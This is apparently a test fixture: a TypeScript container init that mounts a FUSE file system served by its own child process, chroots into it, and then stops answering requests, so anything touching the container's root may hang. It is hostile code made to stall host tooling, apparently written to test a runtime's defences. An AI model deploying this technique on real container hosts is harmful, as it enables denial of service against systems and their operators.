/**
 * An attacking init of a container that has CAP_SYS_ADMIN and /dev/fuse: it takes for its root a directory of a file system
 * that another process of the container serves. When that is done it looks for a name there, with which the answers end:
 * `{"ready": true}` is printed.
 */
import { dlopen, FFIType } from "bun:ffi"
import { spawn } from "node:child_process"
import { mkdirSync, openSync, readSync, writeSync } from "node:fs"

const { cstring, u64, i32 } = FFIType
const { symbols: c } = dlopen("libc.so.6", {
  mount: { args: [cstring, cstring, cstring, u64, cstring], returns: i32 },
  chroot: { args: [cstring], returns: i32 },
  access: { args: [cstring, i32], returns: i32 },
})

const operations = { lookup: 1, getattr: 3, init: 26, access: 34 } as const
const directory = 0o40755
const ENOENT = 2
const lastName = "silence"

/** Answers (linux/fuse.h) until the last name has been asked for. */
function serve(device: number): void {
  const request = Buffer.alloc(1 << 20)
  for (;;) {
    const length = readSync(device, request)
    const [operation, unique] = [request.readUInt32LE(4), request.readBigUInt64LE(8)]
    const isLast = operation === operations.lookup && request.toString("latin1", 40, length - 1) === lastName
    const answer = answerTo(operation)
    const header = Buffer.alloc(16)
    header.writeUInt32LE(16 + (answer?.length ?? 0), 0)
    header.writeInt32LE(answer ? 0 : -ENOENT, 4)
    header.writeBigUInt64LE(unique, 8)
    writeSync(device, Buffer.concat([header, answer ?? Buffer.alloc(0)]))
    if (isLast) return
  }
}

/** @returns undefined for what is not known */
function answerTo(operation: number): Buffer | undefined {
  if (operation === operations.access) return Buffer.alloc(0)
  if (operation === operations.init) {
    const answer = Buffer.alloc(64)
    for (const [at, value] of [
      [0, 7],
      [4, 31],
      [20, 4096],
    ] as const)
      answer.writeUInt32LE(value, at)
    return answer
  }
  if (operation !== operations.getattr) return undefined
  // Valid for no time at all: the next look at it asks again.
  const answer = Buffer.alloc(104)
  answer.writeBigUInt64LE(1n, 16)
  answer.writeUInt32LE(directory, 76)
  answer.writeUInt32LE(2, 80)
  return answer
}

const text = (value: string) => Buffer.from(`${value}\0`)

if (process.argv[2] === "serve") {
  serve(3)
  console.log(JSON.stringify({ ready: true }))
  setInterval(() => {}, 1 << 30)
} else {
  mkdirSync("/mnt", { recursive: true })
  const device = openSync("/dev/fuse", "r+")
  const options = text(`fd=${device},rootmode=40000,user_id=0,group_id=0`)
  const [source, path, name] = [text("fuse"), text("/mnt"), text(`/${lastName}`)]
  if (c.mount(source, path, source, 0n, options) !== 0) throw new Error("cannot mount at /mnt")
  spawn(process.execPath, [process.argv[1]!, "serve"], { stdio: ["ignore", "inherit", "inherit", device] })
  if (c.chroot(path) !== 0) throw new Error("cannot take /mnt for the root")
  c.access(name, 0)
  setInterval(() => {}, 1 << 30)
}
